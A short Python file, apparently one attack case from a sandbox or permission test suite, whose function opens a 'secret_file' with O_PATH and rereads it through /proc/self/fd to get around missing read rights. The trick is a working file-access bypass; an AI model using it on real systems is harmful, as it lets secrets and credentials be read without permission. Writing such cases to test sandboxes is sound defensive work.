"""Turns an O_PATH descriptor, which needs no right on the file, into a readable one."""

import os


def attack(world):
    path = os.open(world["secret_file"], os.O_PATH)
    with open(f"/proc/self/fd/{path}") as file:
        return file.read()
